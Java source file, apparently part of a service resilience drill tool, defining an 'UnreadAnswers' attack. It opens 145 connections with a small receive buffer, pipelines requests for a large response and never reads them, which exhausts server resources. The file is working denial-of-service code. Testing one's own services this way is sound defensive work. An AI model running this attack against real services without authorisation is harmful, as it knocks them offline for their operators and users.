package dev.solecast.drill;

import java.net.InetAddress;

/**
 * Pipelines requests for a large answer on many connections, and reads nothing.
 *
 * @param path of the large answer
 */
record UnreadAnswers(String name, String path) implements Attack {

    private static final int CONNECTIONS = 145;
    private static final int PIPELINED = 4;
    /** From one connection of an address to the next. */
    private static final int MILLIS_APART = 50;
    /** In bytes. */
    private static final int RECEIVE_BUFFER = 2_048;

    @Override
    public void start(Raid raid, InetAddress source) {
        for (var each = 0; each < CONNECTIONS; each++) {
            raid.repeat(source, RECEIVE_BUFFER, each * MILLIS_APART, connection -> {
                for (var request = 0; request < PIPELINED; request++) {
                    connection.send(path, "");
                }
                connection.timeout(1);
                while (!raid.isOver()) {
                    raid.pause();
                    // Fails once the service has dropped the connection.
                    connection.send(path, "");
                }
            });
        }
    }
}
